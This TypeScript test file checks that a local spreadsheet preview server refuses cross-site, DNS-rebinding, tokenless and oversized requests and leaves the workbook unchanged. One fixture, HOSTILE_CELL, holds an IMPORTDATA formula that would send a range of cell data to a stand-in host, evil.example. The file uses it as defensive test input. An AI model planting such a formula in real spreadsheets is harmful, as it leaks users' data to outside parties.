// The preview server answers only its own page: other sites' requests, DNS-rebinding names, missing tokens, oversized bodies and coordinates past Sheets' limits are refused and change nothing on disk.
import { createHash } from "node:crypto";
import { readFileSync, statSync } from "node:fs";
import { request } from "node:http";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type RunningPreview, startPreview } from "../../src/local/preview/preview-server";
import { TOKEN_HEADER } from "../../src/local/preview/request-guard";
import { ROOT, smallWorkbook } from "./preview-fixture";

let preview: RunningPreview;
let workbookPath = "";
let port = 0;
let before = { hash: "", mtime: 0 };

interface Reply {
  status: number;
  body: string;
  headers: Record<string, string | string[] | undefined>;
}

/** A raw HTTP request, so Host, Origin and the body's length are exactly what a browser or attacker would send. */
function send(method: string, path: string, headers: Record<string, string>, body?: string | Buffer, chunked = false): Promise<Reply> {
  return new Promise((resolve, reject) => {
    const req = request({ host: "127.0.0.1", port, method, path, headers, setHost: false }, (res) => {
      const chunks: Buffer[] = [];
      res.on("data", (c: Buffer) => chunks.push(c));
      res.on("end", () => resolve({ status: res.statusCode ?? 0, body: Buffer.concat(chunks).toString("utf8"), headers: res.headers }));
    });
    req.on("error", (error: NodeJS.ErrnoException) => {
      // The server may close a refused upload before it is all sent; the answer already came.
      if (error.code === "EPIPE" || error.code === "ECONNRESET") resolve({ status: -1, body: error.code, headers: {} });
      else reject(error);
    });
    if (body !== undefined && chunked) {
      // No Content-Length: the body's size is only known by reading it.
      const data = Buffer.from(body);
      for (let i = 0; i < data.length; i += 64 * 1024) req.write(data.subarray(i, i + 64 * 1024));
    } else if (body !== undefined) req.write(body);
    req.end();
  });
}

/** Everything a request from the preview's own page carries. */
function ownPage(extra: Record<string, string> = {}): Record<string, string> {
  return {
    host: `localhost:${port}`,
    origin: `http://localhost:${port}`,
    "content-type": "application/json",
    "sec-fetch-site": "same-origin",
    [TOKEN_HEADER]: preview.token,
    ...extra,
  };
}

function without(headers: Record<string, string>, name: string): Record<string, string> {
  const copy = { ...headers };
  delete copy[name];
  return copy;
}

const HOSTILE_CELL = JSON.stringify({ sheet: "Marketing data", row: 2, column: 10, input: '=IMPORTDATA("https://evil.example/c?v="&TEXTJOIN(",",1,A1:G40))' });

function fileState() {
  return { hash: createHash("sha256").update(readFileSync(workbookPath)).digest("hex"), mtime: statSync(workbookPath).mtimeMs };
}

beforeAll(async () => {
  workbookPath = await smallWorkbook();
  preview = await startPreview({ workbookPath, buildDir: join(ROOT, "build"), port: 0 });
  port = Number(new URL(preview.url).port);
  before = fileState();
});

afterAll(async () => {
  await preview?.close();
});

describe("requests the preview refuses", () => {
  it("a text/plain POST from another site's page (no CORS preflight needed) writing a formula", async () => {
    const reply = await send("POST", "/api/cell", { host: `localhost:${port}`, origin: "https://evil.example", "content-type": "text/plain;charset=UTF-8", "sec-fetch-site": "cross-site" }, HOSTILE_CELL);
    expect(reply.status).toBe(403);
  });

  it("a request from another Origin, even with every other header right", async () => {
    expect((await send("POST", "/api/cell", ownPage({ origin: "https://evil.example" }), HOSTILE_CELL)).status).toBe(403);
    expect((await send("POST", "/api/run", ownPage({ origin: `http://localhost:${port + 1}` }), JSON.stringify({ fn: "refreshSummaryFromMenu", args: [] }))).status).toBe(403);
  });

  it("a change without an Origin, or not sent as JSON", async () => {
    expect((await send("POST", "/api/cell", without(ownPage(), "origin"), HOSTILE_CELL)).status).toBe(403);
    expect((await send("POST", "/api/cell", ownPage({ "content-type": "text/plain" }), HOSTILE_CELL)).status).toBe(403);
    expect((await send("POST", "/api/cell", ownPage({ "content-type": "application/x-www-form-urlencoded" }), HOSTILE_CELL)).status).toBe(403);
  });

  it("a DNS-rebinding name pointed at 127.0.0.1: no page, no workbook, no server call", async () => {
    const rebound = { host: `attacker.example:${port}` };
    expect((await send("GET", "/", rebound)).status).toBe(403);
    expect((await send("GET", "/api/page?sheet=Marketing%20data&start=1&count=50", { ...rebound, [TOKEN_HEADER]: preview.token })).status).toBe(403);
    expect((await send("POST", "/api/run", ownPage({ host: `attacker.example:${port}`, origin: `http://attacker.example:${port}` }), JSON.stringify({ fn: "wizardStart", args: [] }))).status).toBe(403);
    // No Host at all: Node refuses an HTTP/1.1 request without one (400) before the guard sees it.
    expect([400, 403]).toContain((await send("GET", "/api/tabs", { [TOKEN_HEADER]: preview.token })).status);
  });

  it("an API call without this run's token, or with another", async () => {
    expect((await send("POST", "/api/cell", without(ownPage(), TOKEN_HEADER), HOSTILE_CELL)).status).toBe(403);
    expect((await send("POST", "/api/cell", ownPage({ [TOKEN_HEADER]: "x".repeat(preview.token.length) }), HOSTILE_CELL)).status).toBe(403);
    expect((await send("GET", "/api/page?sheet=Marketing%20data", without(ownPage(), TOKEN_HEADER))).status).toBe(403);
  });

  it("a cross-site request as the browser labels it", async () => {
    expect((await send("POST", "/api/cell", ownPage({ "sec-fetch-site": "cross-site" }), HOSTILE_CELL)).status).toBe(403);
    expect((await send("GET", "/api/tabs", ownPage({ "sec-fetch-site": "same-site" }))).status).toBe(403);
  });

  it("a body over a megabyte, announced or streamed", async () => {
    const huge = JSON.stringify({ fn: "saveAndGenerate", args: ["x".repeat(2 * 1024 * 1024)] });
    expect((await send("POST", "/api/run", ownPage({ "content-length": String(Buffer.byteLength(huge)) }), huge)).status).toBe(413);
    const streamed = await send("POST", "/api/run", ownPage({ "transfer-encoding": "chunked" }), huge, true);
    expect([413, -1]).toContain(streamed.status);
  });

  it("a row or column past Google Sheets' limits: refused before anything is allocated", async () => {
    const cell = (row: number, column: number) => JSON.stringify({ sheet: "Marketing data", row, column, input: "x" });
    expect((await send("POST", "/api/cell", ownPage(), cell(1_000_000, 1))).status).toBe(413);
    expect((await send("POST", "/api/cell", ownPage(), cell(99_999_999_999, 1))).status).toBe(413);
    expect((await send("POST", "/api/cell", ownPage(), cell(2, 18_279))).status).toBe(413);
    expect((await send("GET", "/api/page?sheet=Marketing%20data&start=99999999999&count=100", ownPage())).status).toBe(413);
    expect(preview.session.emu.spreadsheet.getSheetByName("Marketing data")!.getMaxRows()).toBeLessThan(1000 + 1);
  });

  it("left the workbook on disk and in memory exactly as it was", async () => {
    await preview.session.flush();
    expect(fileState()).toEqual(before);
    const sheet = preview.session.emu.spreadsheet.getSheetByName("Marketing data")!;
    expect(sheet.getRange("J2").getFormula()).toBe("");
    expect(preview.session.emu.spreadsheet.getSheets().map((s) => s.getName())).toEqual(["Marketing data", "Leads"]);
  });
});

describe("what the preview's own page may do", () => {
  it("reads and writes with its token, and every answer forbids other sites from framing or embedding it", async () => {
    const page = await send("GET", "/", { host: `localhost:${port}` });
    expect(page.status).toBe(200);
    expect(page.body).toContain(`content="${preview.token}"`);
    expect(page.headers["cross-origin-resource-policy"]).toBe("same-origin");
    expect(page.headers["content-security-policy"]).toContain("frame-ancestors 'self'");
    const script = await send("GET", "/shim.js", { host: `127.0.0.1:${port}` });
    // The token is in the page, never in a script another site could include.
    expect(script.body).not.toContain(preview.token);
    const written = await send("POST", "/api/cell", ownPage(), JSON.stringify({ sheet: "Leads", row: 2, column: 12, input: "typed by the owner" }));
    expect(written.status).toBe(200);
    expect(JSON.parse(written.body)).toEqual({ ok: true });
    await preview.session.flush();
    expect(preview.session.emu.spreadsheet.getSheetByName("Leads")!.getRange("L2").getValue()).toBe("typed by the owner");
    expect(fileState().hash).not.toBe(before.hash);
  });
});
